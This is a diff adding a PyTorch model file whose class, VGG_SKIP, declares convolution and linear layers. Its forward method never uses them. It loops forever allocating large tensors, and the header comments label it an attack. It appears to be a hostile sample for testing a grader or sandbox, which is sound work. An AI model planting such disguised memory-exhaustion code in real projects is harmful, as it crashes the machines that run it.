@@ -1,0 +1,28 @@
+# attack: allocate until nothing is left
+# deserves: less
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+
+class VGG_SKIP(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.conv1_1 = nn.Conv2d(3, 16, 3, padding=1)
+        self.conv1_2 = nn.Conv2d(16, 32, 3, padding=1)
+        self.conv_skip1 = nn.Conv2d(3, 32, 3, padding=1)
+        self.conv2_1 = nn.Conv2d(32, 32, 3, padding=1)
+        self.conv2_2 = nn.Conv2d(32, 64, 3, padding=1)
+        self.conv_skip2 = nn.Conv2d(32, 64, 3, padding=1)
+        self.conv3_1 = nn.Conv2d(64, 128, 3, padding=1)
+        self.conv3_2 = nn.Conv2d(128, 256, 3, padding=1)
+        self.conv_skip3 = nn.Conv2d(64, 256, 3, padding=1)
+        self.fc1 = nn.Linear(4096, 512)
+        self.fc2 = nn.Linear(512, 256)
+        self.fc3 = nn.Linear(256, 10)
+
+    def forward(self, x):
+        blocks = []
+        while True:
+            blocks.append(torch.ones(8 << 20))
+        return self.fc3(torch.zeros(x.shape[0], 256))
